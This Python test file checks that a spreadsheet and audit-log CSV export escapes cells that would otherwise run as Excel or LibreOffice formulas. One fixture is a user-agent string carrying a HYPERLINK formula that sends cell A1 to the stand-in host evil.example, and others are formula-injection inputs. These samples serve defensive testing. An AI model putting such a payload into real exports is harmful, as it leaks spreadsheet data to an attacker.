"""Spreadsheet exports: no cell may run as a formula in Excel or LibreOffice (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from chalicelib.core.spreadsheet import UTF8_BOM, csv_bytes, safe_cell
from chalicelib.sharing import audit

PARTNER_AGENT = '=HYPERLINK("https://evil.example/?"&A1,"Click") Mozilla/5.0'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2.txt", "'=1+2.txt"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("+81-3-1234-5678", "'+81-3-1234-5678"),
        ("\t=x", "'\t=x"),
        ("\r=x", "'\r=x"),
        (PARTNER_AGENT, "'" + PARTNER_AGENT),
        ("見積書.xlsx", "見積書.xlsx"),
        ("a=b", "a=b"),
        (" =x", " =x"),
        ("", ""),
        (None, ""),
        (-3, -3),
        (2.5, 2.5),
    ],
)
def test_a_cell_that_would_start_a_formula_is_written_as_text(value: object, written: object) -> None:
    assert safe_cell(value) == written  # type: ignore[arg-type]


def _rows(data: bytes) -> list[list[str]]:
    assert data.startswith(UTF8_BOM), "Excel in Japan needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(data[len(UTF8_BOM) :].decode("utf-8"), newline="")))


def test_csv_is_utf8_with_bom_and_every_cell_is_neutralised() -> None:
    data = csv_bytes(["名前", "=header"], [["=1+2.txt", "@SUM(A1)"], ["-2+3", "\t=x"], ["普通", None]])
    assert b"\r\n" in data
    assert _rows(data) == [["名前", "'=header"], ["'=1+2.txt", "'@SUM(A1)"], ["'-2+3", "'\t=x"], ["普通", ""]]


def test_the_share_audit_export_neutralises_partner_text() -> None:
    event = audit.AuditEvent(
        link_id="L1",
        at=datetime(2026, 4, 1, 0, 0, tzinfo=UTC),
        action="downloaded",
        actor="partner",
        ip="203.0.113.9",
        user_agent=PARTNER_AGENT,
        file_id="F1",
        object_name="=1+2.txt",
        detail="@SUM(A1)",
    )
    header, row = _rows(audit.to_csv([event]))
    assert header[0] == "日時 (JST)"
    assert row == [
        "2026-04-01 09:00:00",
        "downloaded",
        "partner",
        "203.0.113.9",
        "'" + PARTNER_AGENT,
        "L1",
        "'=1+2.txt",
        "'@SUM(A1)",
    ]
